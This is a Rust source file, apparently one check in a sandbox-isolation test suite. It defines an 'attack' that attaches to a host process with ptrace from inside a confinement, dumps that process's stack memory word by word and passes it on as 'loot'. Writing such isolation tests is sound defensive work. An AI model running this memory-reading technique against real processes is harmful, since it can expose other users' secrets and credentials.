//! Becomes the tracer of a process of the host, and reads its memory word by word.

use std::io;

use model::Wall;

use super::read_memory::stack;
use super::support::{bait, set_bait};
use crate::{Attack, Control};

pub const ATTACK: Attack = Attack {
    id: "kernel/trace_host",
    wall: Wall::Processes,
    about: "trace a process of the host of the same user and peek at its memory",
    flags: &[],
    prepare: |field| set_bait(field).map(drop),
    inside: |inside| {
        let bait = bait(inside)?;
        // SAFETY: peeking reads the other's memory, not ours; whom we stop we let go.
        unsafe {
            if libc::ptrace(libc::PTRACE_SEIZE, bait, 0, 0) < 0 {
                return Err(io::Error::last_os_error());
            }
            let mut status = 0;
            libc::ptrace(libc::PTRACE_INTERRUPT, bait, 0, 0);
            libc::waitpid(bait, &mut status, libc::__WALL);
            let mut copy = Vec::new();
            let stack = stack(bait)?;
            for address in (stack.0..stack.1).step_by(8) {
                let word = libc::ptrace(libc::PTRACE_PEEKDATA, bait, address, 0);
                copy.extend_from_slice(&word.to_ne_bytes());
            }
            libc::ptrace(libc::PTRACE_DETACH, bait, 0, 0);
            inside.loot(copy)
        }
    },
    judge: None,
    control: Control::Bare,
};
